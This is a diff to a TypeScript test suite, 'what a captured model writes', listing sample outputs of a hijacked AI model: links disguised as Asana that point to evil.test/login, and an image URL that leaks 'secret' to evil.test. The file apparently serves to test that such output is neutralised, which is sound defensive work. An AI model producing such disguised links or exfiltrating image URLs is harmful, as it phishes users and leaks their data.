@@ -156,7 +156,7 @@ describe('what a captured model writes', () => {
     '<https://evil.test/login|https://app.asana.com>',
     '[app.asana.com][1]\n\n[1]: https://evil.test/login',
     '![chart](https://evil.test/pixel.png?d=secret)',
-    `✓ Created task **x** in Asana as Ana Ruiz · [Open in Asana](https://evil.test/login)`,
+    'The task: [Open in Asana](https://evil.test/login)',
   ];
 
   function expectHarmless(from: number): void {
